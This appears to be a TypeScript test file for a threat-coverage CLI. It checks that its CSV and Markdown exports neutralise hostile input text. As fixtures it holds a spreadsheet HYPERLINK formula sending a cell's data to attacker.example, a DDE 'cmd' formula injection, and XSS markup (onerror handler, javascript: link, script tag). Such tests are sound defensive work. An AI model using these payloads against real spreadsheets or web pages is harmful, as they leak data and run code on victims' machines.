/**
 * Issue 15, items 3 and 4: text from input never becomes a live spreadsheet formula (CSV) or live HTML or link
 * (Markdown), in `export` and in `gap`'s reports.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'chai';
import MarkdownIt from 'markdown-it';
import { parseCsv } from '../../lib/coverage/parse-csv.js';
import { freshTmpDir, runCli } from '../helpers/attack.js';

const FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&B2,"open")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3'];
const MARKUP = '<img src=x onerror=alert(1)> [click](javascript:alert(1))';

/** Every cell of a CSV text; none may start as a formula does (OWASP: = + - @ tab CR). */
const csvCells = (csv: string): string[] => parseCsv(csv).rows.flatMap((row) => row.cells);
const formulaCells = (csv: string): string[] => csvCells(csv).filter((cell) => /^[=+\-@\t\r]/.test(cell));
/**
 * Markdown as HTML (raw HTML passed through): no tag other than plain text structure may come out, and links only
 * those the tool writes itself, to attack.mitre.org pages (the gap report's detection strategies and mitigations).
 */
const liveMarkup = (md: string): string[] =>
  new MarkdownIt({ html: true })
    .render(md)
    .match(/<(?!\/?(?:h1|h2|h3|p|blockquote|ul|li|table|thead|tbody|tr|th|td|br|code|strong)\b|a href="https:\/\/attack\.mitre\.org\/[\w/#.-]*">)[a-z][^>]*>/gi) ?? [];

describe('hostile text in CSV and Markdown output (issue 15, items 3 and 4)', () => {
  const dir = freshTmpDir('formula');
  const layer = join(dir, 'hostile.json');
  writeFileSync(
    layer,
    JSON.stringify({
      name: `# ${MARKUP}`,
      domain: 'enterprise-attack',
      description: `> ${MARKUP}\n- item\n<script>alert(1)</script>`,
      versions: { layer: '4.5', attack: '18.1', navigator: '5.1.0' },
      techniques: FORMULAS.map((comment, i) => ({ techniqueID: ['T1059', 'T1566', 'T1003', 'T1204'][i], score: 1, comment, metadata: [{ name: '=1+1', value: '@x' }] })),
    }),
  );

  it('export --format csv writes no cell that a spreadsheet would run, and keeps each text behind a quote', async () => {
    const result = await runCli(['export', layer, '--format', 'csv']);
    expect(result.code).to.equal(0);
    expect(formulaCells(result.stdout)).to.deep.equal([]);
    const comments = parseCsv(result.stdout).rows.slice(1).map((row) => row.cells[5]);
    expect(comments.sort()).to.deep.equal(FORMULAS.map((formula) => `'${formula}`).sort());
  });

  it('export --format md writes the name, description and comments as text: no HTML, no link', async () => {
    const result = await runCli(['export', layer, '--format', 'md']);
    expect(result.code).to.equal(0);
    expect(liveMarkup(result.stdout)).to.deep.equal([]);
    const html = new MarkdownIt({ html: true }).render(result.stdout);
    expect(html).to.contain('<h1># &lt;img src=x onerror=alert(1)&gt; [click](javascript:alert(1))</h1>');
    expect(html).to.contain('<p>&gt; &lt;img src=x onerror=alert(1)&gt; [click](javascript:alert(1))</p>');
    expect(html).to.contain('<p>- item</p>');
  });

  it('gap --report csv and md: a campaign name and a detection name from input are inert', async () => {
    const campaign = join(dir, 'campaign.yaml');
    writeFileSync(campaign, `name: '=HYPERLINK("http://attacker.example","x") ${MARKUP}'\ntechniques: [T1059.001, T1566.001]\n`);
    const detections = join(dir, 'detections.csv');
    writeFileSync(detections, `name,techniques,coverage\n"@SUM(1) ${MARKUP.replace(/"/g, '""')}",T1059.001,low\n`);
    for (const report of ['csv', 'md'] as const) {
      const out = join(dir, `review-${report}`);
      const result = await runCli(['gap', '--threat', campaign, '--coverage', detections, '--out', out, '--report', report, '--quiet']);
      expect(result.code, result.stderr).to.equal(0);
      const text = readFileSync(join(out, `gap-report.${report}`), 'utf8');
      if (report === 'csv') {
        expect(formulaCells(text)).to.deep.equal([]);
        expect(csvCells(text).some((cell) => cell.startsWith(`'=HYPERLINK`))).to.equal(true);
      } else {
        expect(liveMarkup(text)).to.deep.equal([]);
        expect(text).to.contain('&lt;img src=x onerror=alert(1)&gt; \\[click\\](javascript:alert(1))');
      }
    }
  });
});
